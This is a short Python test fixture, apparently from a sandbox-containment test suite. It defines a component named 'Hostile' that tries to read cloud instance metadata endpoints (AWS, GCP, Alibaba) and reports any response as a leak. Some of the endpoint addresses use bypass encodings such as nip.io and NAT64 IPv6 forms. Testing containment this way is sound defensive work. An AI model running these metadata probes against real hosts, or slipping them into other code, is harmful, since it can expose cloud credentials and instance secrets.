# expect: contained
# about: requests to the metadata services of clouds.
# returns: "held"
from lfx.custom import Component
from lfx.io import Output


class Hostile(Component):
    display_name = "Hostile"
    outputs = [Output(name="out", display_name="Out", method="attack")]

    def attack(self) -> str:
        try:
            loot = self.go()
        except BaseException:
            return "held"
        return "LE" "AK: " + str(loot)[:200] if loot else "held"

    def go(self):
        import requests
        for url in ("http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://[fd00:ec2::254]/", "http://100.100.100.200/", "http://169.254.169.254.nip.io/", "http://[64:ff9b::a9fe:a9fe]/"):
            try:
                return requests.get(url, headers={"Metadata-Flavor": "Google"}, timeout=2).text
            except Exception:
                continue
